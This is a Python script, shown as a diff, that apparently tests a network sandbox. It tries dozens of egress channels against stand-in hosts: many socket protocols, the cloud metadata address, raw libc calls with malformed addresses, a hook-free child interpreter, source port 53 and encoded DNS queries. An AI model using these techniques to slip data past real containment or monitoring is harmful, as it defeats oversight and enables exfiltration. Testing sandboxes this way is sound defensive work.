@@ -1,0 +1,264 @@
+"""Tries every way to send something outside that is known here, each with a mark of its own.
+
+usage: python channels.py; prints a line for each: its name, a tab, and how it ended. Ports from 20001 on are marks.
+"""
+
+import ctypes
+import errno
+import re
+import socket
+import struct
+import subprocess
+import sys
+from pathlib import Path
+
+V4, V6 = "198.51.100.7", "2001:db8::7"
+_LIBC = ctypes.CDLL(None, use_errno=True)
+_LITE, _SCTP, _DCCP, _MPTCP = 136, 132, 33, 262
+_QUESTION = struct.Struct(">6H")
+CHANNELS = {}
+
+
+def channel(name):
+    """Register a way to send; it is called with its port."""
+
+    def register(attempt):
+        CHANNELS[name] = attempt
+        return attempt
+
+    return register
+
+
+def datagram(family, address, *, protocol=0, options=()):
+    """A datagram by sendto."""
+
+    def attempt(port):
+        with socket.socket(family, socket.SOCK_DGRAM, protocol) as sending:
+            for option in options:
+                sending.setsockopt(*option)
+            sending.sendto(b"leak", (address, port))
+
+    return attempt
+
+
+def connection(family, address, *, protocol=0, kind=socket.SOCK_STREAM):
+    """A connection."""
+
+    def attempt(port):
+        with socket.socket(family, kind, protocol) as stream:
+            stream.settimeout(2)
+            stream.connect((address, port))
+
+    return attempt
+
+
+def raw_address(family, port):
+    """An IPv4 address with any family in it."""
+    return struct.pack("=H", family) + struct.pack("!H", port) + socket.inet_aton(V4) + bytes(8)
+
+
+def checked(result):
+    """OSError for a call that failed."""
+    if result < 0:
+        raise OSError(ctypes.get_errno(), "")
+
+
+for label, family, address in (("4", socket.AF_INET, V4), ("6", socket.AF_INET6, V6)):
+    CHANNELS[f"tcp{label}"] = connection(family, address)
+    CHANNELS[f"udp{label}"] = datagram(family, address)
+    CHANNELS[f"udp-lite{label}"] = datagram(family, address, protocol=_LITE)
+    CHANNELS[f"mptcp{label}"] = connection(family, address, protocol=_MPTCP)
+    CHANNELS[f"sctp{label}"] = connection(family, address, protocol=_SCTP)
+    CHANNELS[f"dccp{label}"] = connection(family, address, protocol=_DCCP, kind=6)
+CHANNELS["mapped-tcp"] = connection(socket.AF_INET6, f"::ffff:{V4}")
+CHANNELS["mapped-udp"] = datagram(socket.AF_INET6, f"::ffff:{V4}")
+CHANNELS["multicast4"] = datagram(socket.AF_INET, "239.1.2.3")
+CHANNELS["multicast6"] = datagram(socket.AF_INET6, "ff0e::7")
+_BROADCAST = (socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
+CHANNELS["broadcast"] = datagram(socket.AF_INET, "255.255.255.255", options=[_BROADCAST])
+CHANNELS["link-local4"] = connection(socket.AF_INET, "169.254.169.254")
+CHANNELS["source-routed"] = datagram(
+    socket.AF_INET, "203.0.113.1", options=[(socket.IPPROTO_IP, 4, b"\x83\x07\x04" + socket.inet_aton(V4) + b"\0")]
+)
+
+
+@channel("link-local6")
+def link_local(port):
+    """A link-local address with a scope."""
+    with socket.socket(socket.AF_INET6) as stream:
+        stream.settimeout(2)
+        stream.connect(("fe80::7", port, 0, 1))
+
+
+@channel("connected-udp")
+def connected(port):
+    """Connect, then send without an address."""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sending:
+        sending.connect((V4, port))
+        sending.send(b"leak")
+
+
+@channel("reconnected-udp")
+def reconnected(port):
+    """Connect to loopback, and name another address with the message."""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sending:
+        sending.connect(("127.0.0.1", 9))
+        sending.sendmsg([b"leak"], [], 0, (V4, port))
+
+
+@channel("fast-open")
+def fast_open(port):
+    """Data in the first packet of a connection."""
+    with socket.socket() as stream:
+        stream.sendto(b"leak", 0x20000000, (V4, port))
+
+
+def message_of(address):
+    """What sendmsg takes; and what has to live as long."""
+    name, part = ctypes.create_string_buffer(address, 16), ctypes.create_string_buffer(b"leak")
+    vector = ctypes.create_string_buffer(struct.pack("=QQ", ctypes.addressof(part), 4))
+    packed = struct.pack("=QIxxxxQQQQixxxx", ctypes.addressof(name), 16, ctypes.addressof(vector), 1, 0, 0, 0)
+    return packed, (name, part, vector)
+
+
+@channel("sendmmsg")
+def many(port):
+    """The second of two messages is the one that counts."""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sending:
+        first, kept = message_of(struct.pack("=H", 2) + struct.pack("!H", 9) + socket.inet_aton("127.0.0.1") + bytes(8))
+        second, also = message_of(raw_address(2, port))
+        both = ctypes.create_string_buffer(first + bytes(8) + second + bytes(8))
+        checked(_LIBC.sendmmsg(sending.fileno(), both, 2, 0))
+        del kept, also
+
+
+@channel("unspecified-sendto")
+def unspecified(port):
+    """An address without a family."""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sending:
+        checked(_LIBC.sendto(sending.fileno(), b"leak", 4, 0, raw_address(0, port), 16))
+
+
+@channel("unspecified-sendmsg")
+def unspecified_message(port):
+    """The same by sendmsg."""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sending:
+        message, kept = message_of(raw_address(0, port))
+        checked(_LIBC.sendmsg(sending.fileno(), message, 0))
+        del kept
+
+
+@channel("isolated-child")
+def child(port):
+    """A Python without the environment, and so without the hook."""
+    program = f"import socket; socket.create_connection(({V4!r}, {port}), 2)"
+    if subprocess.run([sys.executable, "-I", "-c", program], env={}, stderr=subprocess.DEVNULL, check=False).returncode:
+        raise OSError(errno.ECONNREFUSED, "")
+
+
+@channel("source-port-53")
+def from_name_port(port):
+    """A datagram that looks like an answer of a name server."""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sending:
+        sending.bind(("", 53))
+        sending.sendto(b"leak", (V4, port))
+
+
+@channel("ping")
+def ping(port):
+    """An echo request with a message, by a socket that needs no right."""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as sending:
+        sending.sendto(b"\x08\0\0\0\0\0\0\0leak", (V4, port))
+
+
+@channel("raw")
+def raw(port):
+    """A packet by hand."""
+    with socket.socket(socket.AF_INET, socket.SOCK_RAW, 253) as sending:
+        sending.sendto(b"leak", (V4, port))
+
+
+@channel("group")
+def join(_port):
+    """To join a group tells the network its address."""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as joining:
+        joining.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton("239.9.9.9") + bytes(4))
+
+
+for name, number, kind in (
+    ("vsock", 40, socket.SOCK_STREAM),
+    ("packet", 17, socket.SOCK_RAW),
+    ("alg", 38, socket.SOCK_SEQPACKET),
+    ("key", 15, socket.SOCK_RAW),
+    ("xdp", 44, socket.SOCK_RAW),
+    ("tipc", 30, socket.SOCK_RDM),
+    ("can", 29, socket.SOCK_RAW),
+    ("rds", 21, socket.SOCK_SEQPACKET),
+    ("bluetooth", 31, socket.SOCK_RAW),
+    ("qrtr", 42, socket.SOCK_DGRAM),
+):
+    CHANNELS[f"family-{name}"] = lambda _port, number=number, kind=kind: socket.socket(number, kind).close()
+
+
+def labels(name):
+    """A name as a packet has it."""
+    return b"".join(bytes([len(each)]) + each.encode() for each in name.split(".")) + b"\0"
+
+
+def name_server():
+    """The one that programs ask here."""
+    conf = Path("/etc/resolv.conf")
+    found = re.findall(r"^nameserver\s+(\S+)", conf.read_text(), re.MULTILINE) if conf.exists() else []
+    return [*found, V4][0]
+
+
+def question(content, server=None):
+    """A datagram to a name server."""
+
+    def attempt(port):
+        address = server or name_server()
+        with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM) as asking:
+            asking.sendto(content(f"mark-{port}"), (address, 53))
+
+    return attempt
+
+
+def plain(name, kind=1, count=1, flags=0x0100, added=b""):
+    """A question."""
+    return _QUESTION.pack(7, flags, count, 0, 0, 0) + (labels(name) + struct.pack(">2H", kind, 1)) * count + added
+
+
+CHANNELS["dns-plain"] = question(lambda mark: plain(f"{mark}.invalid"))
+CHANNELS["dns-text"] = question(lambda mark: plain(f"{mark}.invalid", kind=16))
+CHANNELS["dns-elsewhere"] = question(lambda mark: plain(f"{mark}.invalid"), V4)
+CHANNELS["dns-elsewhere6"] = question(lambda mark: plain(f"{mark}.invalid"), V6)
+CHANNELS["dns-twice"] = question(lambda mark: plain(f"{mark}.invalid", count=2))
+CHANNELS["dns-operation"] = question(lambda mark: plain(f"{mark}.invalid", flags=0x2900))
+CHANNELS["dns-compressed"] = question(lambda _: plain("a")[:-5] + b"\xc0\x0c\0\1\0\1")
+CHANNELS["dns-anything"] = question(lambda mark: mark.encode())
+CHANNELS["dns-localhost"] = question(lambda mark: plain(f"{mark}.localhost"))
+CHANNELS["dns-reverse"] = question(lambda _: plain("7.7.7.127.in-addr.arpa", kind=12))
+CHANNELS["dns-added"] = question(lambda mark: plain("localhost", added=mark.encode()))
+
+
+@channel("dns-resolver")
+def resolve(port):
+    """As any program asks."""
+    socket.getaddrinfo(f"mark-{port}.invalid", 443)
+
+
+@channel("dns-tcp")
+def by_tcp(_port):
+    """The same by a connection."""
+    with socket.socket() as stream:
+        stream.settimeout(2)
+        stream.connect((name_server(), 53))
+
+
+if __name__ == "__main__":
+    for place, (known, attempt) in enumerate(CHANNELS.items()):
+        try:
+            attempt(20_001 + place)
+            sys.stdout.write(f"{known}\tdone\n")
+        except OSError as error:
+            sys.stdout.write(f"{known}\t{errno.errorcode.get(error.errno, error)}\n")
